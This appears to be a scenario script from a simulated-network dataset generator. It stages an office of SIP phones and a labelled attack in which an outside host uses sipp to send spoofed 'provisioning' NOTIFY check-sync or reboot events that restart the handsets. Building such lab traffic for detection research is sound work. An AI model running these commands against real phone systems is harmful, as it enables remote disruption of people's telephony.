# A stranger tells the phones of the place by NOTIFY to restart. Handsets obey; baresip and linphone know no such event.
draw_place
open_office
number=$(drawn phones 7 12)
add_handsets "$number" 2
stranger=$(stranger stranger)
add_attacker stranger "$stranger"
event=$(one_of event 'check-sync;reboot=true' 'check-sync' 'resync')
begin
ordinary_day 40
at "$(drawn start 13 17)" attack A1 hijack:remote_control stranger 0 "A stranger sends NOTIFY ($event) to $((number + 2)) phones, directly." \
    "$(version_of sipp)" bash -c "for last in \$(seq 11 12) \$(seq 60 $((59 + number))); do timeout 4 sipp -sf '$parts/sipp/notify.xml' -nostdin -inf '$scratch/event-'\$last.csv \
    -i $stranger -p 5060 -m 1 -key from provisioning@$DOMAIN -key agent '$(product stranger)' $NET.\$last:5060; sleep 0.$(drawn gap 1 6); done; true"
for last in 11 12 $(seq 60 $((59 + number))); do
    user=$BLOCK$(printf %02d $((last < 60 ? last - 10 : last - 40)))
    echo "$user;$event;" | write_list "$scratch/event-$last.csv"
done
finish A1
